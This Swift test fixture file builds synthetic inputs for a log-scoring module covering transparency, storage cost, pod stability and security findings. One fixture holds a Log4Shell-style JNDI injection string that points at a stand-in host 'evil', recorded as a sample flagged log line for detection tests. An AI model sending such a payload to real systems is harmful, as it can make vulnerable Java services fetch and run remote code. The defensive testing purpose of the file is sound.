import LogCore
@testable import Scoring

/// Monday 2026-11-16 00:00 UTC: the start of ISO week 2026-W47.
let weekStart: Int64 = 1_794_787_200_000_000_000
let day: Int64 = 86_400_000_000_000

/// |a − b| < 1e-9.
func close(_ a: Double?, _ b: Double) -> Bool { a.map { abs($0 - b) < 1e-9 } ?? false }

enum World {
    /// A deployment whose 8 failures are all traced with full context, both rollouts visible, every event whole
    /// and structured: every transparency ratio is 1.
    static func transparent(_ scope: String = "web") -> ScoreInputs {
        var x = ScoreInputs(scope: scope, fromNs: weekStart, toNs: weekStart + 7 * day)
        x.failureEvents = 8
        x.failuresTraced = 8
        x.failuresWithFullContext = 8
        x.rollouts = 2
        x.rolloutsWithVisibleStart = 2
        x.storedEvents = 1_000
        x.eventsStoredWhole = 1_000
        x.eventsStructured = 1_000
        return x
    }

    /// 70 GB received in 7 days (10 GB/day), 1.4 GB on disk (0.2 GB/day), 7 GB retained of which 0.7 GB in flagged templates.
    static func costly(_ x: ScoreInputs) -> ScoreInputs {
        var x = x
        x.eventsReceived = 700_000_000
        x.bytesReceived = 70_000_000_000
        x.removedByNoise = NoiseRemoval(dropped: EventVolume(events: 500_000_000, bytes: 50_000_000_000),
                                        sampled: EventVolume(events: 90_000_000, bytes: 9_000_000_000),
                                        deduplicated: EventVolume(events: 30_000_000, bytes: 3_000_000_000),
                                        throttled: EventVolume(events: 10_000_000, bytes: 1_000_000_000),
                                        rescued: EventVolume(events: 1_000, bytes: 100_000))
        x.bytesRetained = 7_000_000_000
        x.bytesStoredData = 1_200_000_000
        x.bytesStoredIndex = 200_000_000
        x.bytesInFlaggedTemplates = 700_000_000
        return x
    }

    /// 10 stability events over 20 pod-days; one unfixed class (injection) and a fully redacted secret; 3 of 4
    /// overlapping rollouts succeeded.
    static func eventful(_ x: ScoreInputs) -> ScoreInputs {
        var x = x
        x.stability = StabilityCounts(restarts: 3, oomKilled: 1, crashLoop: 2, evicted: 0, probeFailed: 4)
        x.podDays = 20
        x.securityFindings = [
            SecurityFinding(kind: .secret, detail: "AWS access key", events: 3, redactedAtIngest: 3, firstNs: weekStart + day,
                            firstExample: "aws_access_key_id=[REDACTED]"),
            SecurityFinding(kind: .injection, detail: "jndi lookup", events: 2, firstNs: weekStart + 2 * day,
                            firstExample: "GET /?q=${jndi:ldap://evil/a} 404"),
        ]
        x.parallelism = RolloutOverlap(overlapping: 4, overlappingSucceeded: 3, peakConcurrent: 2, medianPipelineSeconds: 312.5)
        return x
    }

    static var budget75: ScoringConfig {
        var c = ScoringConfig()
        c.monthlyBudget = 75.3
        return c
    }
}
